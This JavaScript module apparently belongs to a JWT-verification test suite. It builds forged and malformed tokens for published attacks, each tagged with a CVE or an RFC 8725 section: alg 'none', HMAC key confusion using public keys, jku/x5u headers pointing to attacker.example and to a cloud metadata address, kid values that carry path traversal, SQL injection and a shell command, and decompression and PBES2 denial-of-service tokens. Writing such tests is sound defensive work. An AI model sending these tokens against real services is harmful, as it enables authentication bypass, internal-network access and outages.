/**
 * Attacks on tokens that were published, each as a change to an honest token:
 * of RFC 8725, of the libraries in which they worked, and of the products.
 *
 * `own` says whose place it is: `key` and `rsa` name keys that are trusted there,
 * `attacker` one that is not, `claims` what an honest token says, and `wrap` makes
 * the text of a token of what `jwt` takes.
 */
import { createHmac } from 'node:crypto'

import { key, publicJwk } from './keys.mjs'
import { NOW, US, b64, jwt } from './token.mjs'

const hmac = (secret, hash = 'sha256') => (input) => createHmac(hash, secret).update(input).digest()
const unsigned = () => ''

/** A public key as an authorized_keys line. */
function openssh(name) {
  const { x, y } = publicJwk(name)
  const field = (bytes) => Buffer.concat([Buffer.from([0, 0, 0, bytes.length]), bytes])
  const point = Buffer.concat([Buffer.from([4]), Buffer.from(x, 'base64url'), Buffer.from(y, 'base64url')])
  const blob = Buffer.concat(['ecdsa-sha2-nistp256', 'nistp256'].map((text) => field(Buffer.from(text))).concat(field(point)))
  return `ecdsa-sha2-nistp256 ${blob.toString('base64')}`
}

const pem = (name) => key(name).publicKey.export({ type: 'spki', format: 'pem' })
const der = (name) => key(name).publicKey.export({ type: 'spki', format: 'der' })
const half = (text) => text.slice(0, Math.ceil(text.length / 2))

/** Those that pretend to be signed. Each gets what an honest token of the place is. */
export const FORGED = {
  'none': ['CVE-2015-2951: `alg` is `none`, and nothing is signed.', () => ({ header: { alg: 'none' }, made: unsigned })],
  'none-in-mixed-case': ['RFC 8725 section 2.1: `nOnE` is not `none` to a list that forbids `none`.', () => ({ header: { alg: 'nOnE' }, made: unsigned })],
  'none-with-a-signature': ['CVE-2018-1000531: `alg` is `none`, and the signature of another token stands there.', ({ key }) => ({ key, header: { alg: 'none' } })],
  'no-algorithm': ['CVE-2022-23540: without `alg`, a default is taken.', ({ key }) => ({ headerText: JSON.stringify({ kid: key, typ: 'JWT' }), made: unsigned })],
  'no-signature': ['CVE-2020-28042: an empty signature is compared with an empty one.', ({ key }) => ({ key, signature: () => '' })],
  'hs256-with-pem': ['CVE-2015-9235 and CVE-2016-10555: the public key is taken as the secret of an HMAC.', ({ key }) => ({ header: { alg: 'HS256', kid: key }, made: hmac(pem(key)) })],
  'hs256-with-pem-after-a-space': ['CVE-2026-34950: white space hides the public key from the check against that.', ({ key }) => ({ header: { alg: 'HS256', kid: key }, made: hmac(` ${pem(key)}`) })],
  'hs256-with-der': ['CVE-2017-11424: so does another encoding of it.', ({ key }) => ({ header: { alg: 'HS256', kid: key }, made: hmac(der(key)) })],
  'hs256-with-openssh': ['CVE-2022-29217 and CVE-2024-33663: and the form of OpenSSH.', ({ key }) => ({ header: { alg: 'HS256', kid: key }, made: hmac(openssh(key)) })],
  'hs256-with-jwk': ['CVE-2024-54150: the key of a JWK set is taken as a secret, whatever its type.', ({ key }) => ({ header: { alg: 'HS256', kid: key }, made: hmac(JSON.stringify(publicJwk(key))) })],
  'hs512-with-pem': ['CVE-2016-5431: any HMAC will do.', ({ key }) => ({ header: { alg: 'HS512', kid: key }, made: hmac(pem(key), 'sha512') })],
  'hs256-with-nothing': ['CVE-2019-20933: an empty secret is a secret.', ({ key }) => ({ header: { alg: 'HS256', kid: key }, made: hmac('') })],
  'hs256-as-a-signature': ['CVE-2026-22817: a key without `alg` serves the algorithm of the token.', ({ key }) => ({ header: { kid: key }, made: hmac(pem(key)) })],
  'jwk-in-the-header': ['CVE-2018-0114 and CVE-2026-27962: the token brings its key.', ({ attacker }) => ({ key: attacker, header: { jwk: publicJwk(attacker) } })],
  'jwk-in-the-header-under-the-kid': ['The key that the token brings has the name of a trusted one.', ({ key, attacker }) => ({ key: attacker, header: { kid: key, jwk: publicJwk(attacker, { kid: key }) } })],
  'jku': ['RFC 8725 section 3.10: the token says where its keys are.', ({ key, attacker }) => ({ key: attacker, header: { kid: key, jku: 'https://attacker.example/jwks' } })],
  'jku-inside': ['The address is one inside, which would be asked in our name.', ({ key, attacker }) => ({ key: attacker, header: { kid: key, jku: 'http://169.254.169.254/latest/meta-data' } })],
  'x5u': ['The token says where its certificate is.', ({ key, attacker }) => ({ key: attacker, header: { kid: key, x5u: 'https://attacker.example/chain.pem' } })],
  'x5c': ['The token brings a certificate.', ({ key, attacker }) => ({ key: attacker, header: { kid: key, x5c: ['MIIBtjCCAVugAwIBAgIUattacker'] } })],
  'kid-of-a-file': ['The name of the key leads to a file with nothing in it.', () => ({ header: { alg: 'HS256', kid: '../../../../../../dev/null' }, made: hmac('') })],
  'kid-of-a-query': ['The name of the key is a query that answers with the key.', ({ attacker }) => ({ key: attacker, header: { kid: "x' UNION SELECT 'secret'; --" } })],
  'kid-of-a-command': ['The name of the key is a command.', ({ attacker }) => ({ key: attacker, header: { kid: 'x|sleep 10' } })],
  'kid-of-a-prototype': ['The name of the key is a member of every object.', ({ attacker }) => ({ key: attacker, header: { kid: '__proto__' } })],
  'psychic': ['CVE-2022-21449: r and s are zero.', ({ key }) => ({ key, signature: (s) => Buffer.alloc(s.length) })],
  'negative': ['The signature is that of the other half of the curve, and cut.', ({ key }) => ({ key, signature: (s) => s.subarray(1) })],
  'by-a-stranger': ['The signature is good, by a key that nobody trusts here.', ({ key, attacker }) => ({ key: attacker, header: { kid: key } })],
  'by-us': ['Our own key signs for nobody else.', ({ key }) => ({ key: 'ours', header: { kid: key } })],
  'by-another-issuer': ['The key of another issuer, which has the same name there.', ({ key }) => ({ key: 'globex-es256', header: { kid: key } })],
  'polyglot': ['CVE-2022-39227: one text that is JSON to one reader, with other claims, and compact to another.', (own) => ({ wrap: polyglot(own) })],
  'json-flattened': ['The JSON serialisation, which may be signed by several.', (own) => ({ wrap: flattened(own) })],
  'grafted': ['The claims of one token under the signature of another.', (own) => ({ wrap: grafted(own) })],
}

const parts = async (own, spec = {}) => (await jwt({ key: own.key, ...spec, claims: { ...own.claims, ...spec.claims } })).text.split('.')

async function polyglot(own) {
  const [header, payload, signature] = await parts(own)
  const forged = b64(JSON.stringify({ ...own.claims, sub: 'admin' }))
  return { text: `{" ${header}.${forged}.": "", "protected": "${header}", "payload": "${payload}", "signature": "${signature}"}` }
}

async function flattened(own) {
  const [header, payload, signature] = await parts(own)
  return { text: JSON.stringify({ protected: header, payload, signature }) }
}

async function grafted(own) {
  const [header, , signature] = await parts(own)
  const [, payload] = await parts(own, { claims: { jti: 'grafted' } })
  return { text: `${header}.${payload}.${signature}` }
}

/** Those that are signed, and do not mean what they are taken for; or that cost more to read than to send. */
export const SIGNED = {
  'crit': ['CVE-2025-59420: an extension that nobody understands is critical.', () => ({ header: { crit: ['bork'], bork: true } })],
  'b64': ['RFC 7797 section 7: the payload is not encoded.', () => ({ header: { b64: false, crit: ['b64'] } })],
  'sub-twice': ['RFC 8725 section 2.5: two claims of one name, read differently.', ({ claims }) => ({ payloadText: twice(claims, '"sub":"admin"') })],
  'iss-twice': ['Two issuers: one for the key, one for the decision.', ({ claims }) => ({ payloadText: twice(claims, '"iss":"https://globex.example"') })],
  'alg-twice': ['Two algorithms: one for the check, one for the key.', ({ key }) => ({ headerText: `{"alg":"none","kid":"${key}","alg":"ES256"}` })],
  'aud-of-others': ['CVE-2020-26160: a list of audiences without us.', () => ({ claims: { aud: ['https://attacker.example'] } })],
  'aud-empty-list': ['A list of nobody excludes nobody.', () => ({ claims: { aud: [] } })],
  'aud-empty': ['An empty audience is every audience.', () => ({ claims: { aud: '' } })],
  'aud-absent': ['RFC 8725 section 3.9: without an audience the token is for anybody.', () => ({ claims: { aud: undefined } })],
  'aud-beginning': ['The beginning of our name is our name.', () => ({ claims: { aud: half(US) } })],
  'aud-longer': ['Our name is the beginning of another.', () => ({ claims: { aud: `${US}.attacker.example` } })],
  'aud-in-capitals': ['Names are compared as they are.', () => ({ claims: { aud: US.toUpperCase() } })],
  'aud-object': ['An object has members of any name.', () => ({ claims: { aud: { [US]: true } } })],
  'aud-star': ['Nobody is everybody.', () => ({ claims: { aud: '*' } })],
  'iss-list': ['CVE-2025-30144: a list of issuers, one of which is trusted.', ({ claims }) => ({ claims: { iss: ['https://attacker.example', claims.iss] } })],
  'iss-beginning': ['CVE-2024-53861: a part of the name of a trusted issuer is in that name.', ({ claims }) => ({ claims: { iss: half(claims.iss) } })],
  'iss-longer': ['A name that begins with that of a trusted issuer.', ({ claims }) => ({ claims: { iss: `${claims.iss}.attacker.example` } })],
  'iss-with-a-slash': ['One slash more is another issuer.', ({ claims }) => ({ claims: { iss: `${claims.iss}/` } })],
  'iss-in-capitals': ['Another case is another issuer.', ({ claims }) => ({ claims: { iss: claims.iss.toUpperCase() } })],
  'iss-with-a-nul': ['What is behind a NUL is not read by everybody.', ({ claims }) => ({ claims: { iss: `${claims.iss}\u0000.attacker.example` } })],
  'iss-look-alike': ['A Cyrillic letter looks like a Latin one.', ({ claims }) => ({ claims: { iss: claims.iss.replace('e', 'е') } })],
  'iss-as-user': ['The trusted name is the user of another host.', ({ claims }) => ({ claims: { iss: `${claims.iss}@attacker.example` } })],
  'iss-absent': ['Without an issuer, any of them.', () => ({ claims: { iss: undefined } })],
  'iss-null': ['Nobody is an issuer, too.', () => ({ claims: { iss: null } })],
  'sub-absent': ['A token about nobody.', () => ({ claims: { sub: undefined } })],
  'sub-empty': ['A token about somebody without a name.', () => ({ claims: { sub: '' } })],
  'sub-list': ['A token about several.', () => ({ claims: { sub: ['user-42', 'admin'] } })],
  'sub-object': ['A token about an object, which a query language understands.', () => ({ claims: { sub: { $ne: null } } })],
  'exp-absent': ['A token that never ends.', () => ({ claims: { exp: undefined } })],
  'exp-text': ['CVE-2024-51744: an end that cannot be read is not looked at.', () => ({ claims: { exp: '9999999999' } })],
  'exp-list': ['An end in a list.', () => ({ claims: { exp: [NOW + 600] } })],
  'exp-negative': ['An end before the beginning of time.', () => ({ claims: { exp: -1 } })],
  'exp-beyond-numbers': ['An end that no number holds.', ({ claims }) => ({ payloadText: text(claims, 'exp', '1e400') })],
  'exp-null': ['An end that is nothing.', () => ({ claims: { exp: null } })],
  'expired': ['A token that has ended.', () => ({ claims: { iat: NOW - 900, exp: NOW - 31 } })],
  'nbf-text': ['A beginning that cannot be read.', () => ({ claims: { nbf: '0' } })],
  'not-yet': ['A token for later.', () => ({ claims: { nbf: NOW + 31 } })],
  'from-the-future': ['A token that is made later: it would count for longer.', () => ({ claims: { iat: NOW + 3600, exp: NOW + 7200 } })],
  'typ-of-a-logout': ['RFC 8725 section 2.8: a logout token.', () => ({ header: { typ: 'logout+jwt' } })],
  'typ-of-a-proof': ['A DPoP proof, which anybody may make.', () => ({ header: { typ: 'dpop+jwt' } })],
  'typ-of-an-event': ['A security event token.', () => ({ header: { typ: 'secevent+jwt' } })],
  'typ-of-a-request': ['A request object.', () => ({ header: { typ: 'oauth-authz-req+jwt' } })],
  'typ-of-a-key-binding': ['The key binding of an SD-JWT.', () => ({ header: { typ: 'kb+jwt' } })],
  'typ-of-an-introspection': ['A signed answer of an introspection endpoint.', () => ({ header: { typ: 'token-introspection+jwt' } })],
  'deep': ['Claims that are nested a thousand times.', () => ({ payloadText: '{"x":'.repeat(1000) + '1' + '}'.repeat(1000) })],
  'many-dots': ['CVE-2025-30204 and CVE-2025-27144: thousands of dots, each a part to be kept.', () => ({ wrap: { text: '.'.repeat(9000) } })],
  'encrypted-with-a-password': ['CVE-2022-36083: two thousand million rounds before the password is found wrong.', () => ({ wrap: { text: `${b64('{"alg":"PBES2-HS256+A128KW","p2s":"AAAAAAAAAAA","p2c":2147483647,"enc":"A128GCM"}')}.AAAA.AAAA.AAAA.AAAA` } })],
  'compressed': ['CVE-2024-28176 and CVE-2024-28180: a little that unpacks to very much.', () => ({ wrap: { text: `${b64('{"alg":"dir","zip":"DEF","enc":"A128GCM"}')}..AAAA.AAAA.AAAA` } })],
}

function twice(claims, member) {
  return JSON.stringify(claims).replace(/}$/, `,${member}}`)
}

function text(claims, name, value) {
  return JSON.stringify({ ...claims, [name]: 0 }).replace(`"${name}":0`, `"${name}":${value}`)
}
